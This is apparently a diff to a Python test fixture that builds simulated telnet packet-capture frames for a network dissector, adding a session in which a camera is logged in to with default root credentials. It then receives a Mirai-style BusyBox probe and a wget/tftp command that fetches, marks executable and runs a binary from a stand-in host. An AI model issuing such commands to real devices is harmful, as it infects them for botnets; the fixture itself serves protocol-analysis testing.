@@ -1,8 +1,8 @@
-"""A switch is logged in to at the second try; its prompt ends the story."""
+"""A switch is logged in to at the second try, and its clock is asked for; a camera is logged in to and made to fetch and run something."""
 
 from __future__ import annotations
 
-from pcaps.dissectors._frames import DESKTOP, GATEWAY, Frames, conversation
+from pcaps.dissectors._frames import CAMERA, DESKTOP, GATEWAY, Frames, conversation
 
 
 def frames() -> Frames:
@@ -21,3 +21,15 @@ def frames() -> Frames:
         (True, b"show version\r\0"),
     ]
     yield from conversation((DESKTOP, "10.20.30.66", 49180), (GATEWAY, "10.20.30.1", 23), parts)
+    parts = [
+        (False, b"\xff\xfd\x01\xff\xfb\x01\xff\xfb\x03DCS-932 login: "),
+        (True, b"root\r\n"),
+        (False, b"Password: "),
+        (True, b"factory-secret\r\n"),
+        (False, b"\r\n\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# "),
+        (True, b"enable\r\nsystem\r\nshell\r\nsh\r\n"),
+        (True, b"/bin/busybox LZRD\r\n"),
+        (False, b"LZRD: applet not found\r\n# "),
+        (True, b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel\r\n"),
+    ]
+    yield from conversation((DESKTOP, "10.20.30.66", 49181), (CAMERA, "10.20.30.80", 23), parts)
